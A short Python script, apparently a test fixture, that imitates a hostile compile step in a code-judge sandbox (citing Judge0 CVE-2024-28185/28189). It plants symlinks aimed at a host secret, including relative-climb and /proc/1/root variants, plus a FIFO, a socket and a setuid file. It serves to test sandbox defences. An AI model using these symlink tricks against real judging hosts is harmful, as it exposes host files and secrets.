# Plays a compile step gone hostile (Judge0 CVE-2024-28185/28189, go-judge #176): leaves
# in its work dir whatever would make a host-side copy, chown or read of "the artifact"
# touch a host file instead. argv[1] is the host path of a secret the box cannot see.
import os, socket, sys

secret = sys.argv[1]
os.symlink(secret, 'main')                                  # the artifact itself
os.symlink('../' * 12 + secret.lstrip('/'), 'relative')     # relative, climbing out
os.symlink(os.path.dirname(secret), 'hostdir')              # a directory on the host
os.mkdir('out')
os.symlink(secret, 'out/Main.class')                        # one level down
os.symlink('/proc/1/root' + secret, 'magic')                # through a magic link
os.mkfifo('fifo')                                           # a read would block forever
s = socket.socket(socket.AF_UNIX); s.bind('sock')           # cannot be opened
with open('setuid', 'w') as f: f.write('x')
os.chmod('setuid', 0o4755)
with open('out/real.txt', 'w') as f: f.write('real file\n')
with open('kept', 'w') as f: f.write('kept\n')
print('planted')
